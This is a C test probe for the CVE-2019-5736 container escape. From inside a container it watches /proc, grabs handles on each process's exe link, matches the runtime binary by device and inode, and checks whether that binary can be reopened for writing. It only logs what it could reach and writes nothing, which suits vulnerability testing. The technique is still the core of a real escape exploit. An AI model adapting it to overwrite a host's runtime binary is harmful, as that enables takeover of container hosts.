/* CVE-2019-5736 with CAP_SYS_PTRACE, as an attacker in the container would write it: watch /proc
 * for every process that appears, grab an O_PATH handle on its /proc/PID/exe at once, and if the
 * handle is the runtime's binary (st_dev:st_ino given as argv[1], "DEV:INO"), keep trying to
 * reopen it for writing through /proc/self/fd/N (ETXTBSY while anything still runs it). Nothing
 * is ever written. What it reached goes to argv[2], one line per event:
 *   reached PID      an O_PATH handle on the runtime binary was obtained from /proc/PID/exe
 *   writable PID     that handle was reopened for writing
 * and "alive N" every 2^N scans so the test can tell it ran. Built static by the test:
 *   cc -static -O2 -o probe exe_probe.c */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int report;

static void say(const char *what, long pid) {
    char line[64];
    int n = snprintf(line, sizeof line, "%s %ld\n", what, pid);
    if (write(report, line, n) < 0) _exit(3);
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    unsigned long long dev, ino;
    if (argc != 3 || sscanf(argv[1], "%llu:%llu", &dev, &ino) != 2) return 2;
    report = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (report < 0) return 2;
    /* pids are small in a container's pid namespace: remember the ones handled */
    static unsigned char seen[1 << 22];
    seen[getpid()] = 1;
    unsigned long scans = 0;
    for (;;) {
        if ((++scans & (scans - 1)) == 0) say("alive", (long)scans);
        DIR *d = opendir("/proc");
        if (!d) return 4;
        struct dirent *e;
        while ((e = readdir(d))) {
            char *end;
            long pid = strtol(e->d_name, &end, 10);
            if (*end || pid <= 0 || pid >= (long)sizeof seen || seen[pid]) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue; /* not allowed (yet): look again next scan */
            seen[pid] = 1;
            struct stat st;
            if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
                say("reached", pid);
                char self[64];
                snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
                double until = now() + 3.0;
                while (now() < until) {
                    int w = open(self, O_WRONLY | O_CLOEXEC);
                    if (w >= 0) {
                        say("writable", pid);
                        close(w);
                        break;
                    }
                }
            }
            close(fd);
        }
        closedir(d);
    }
}
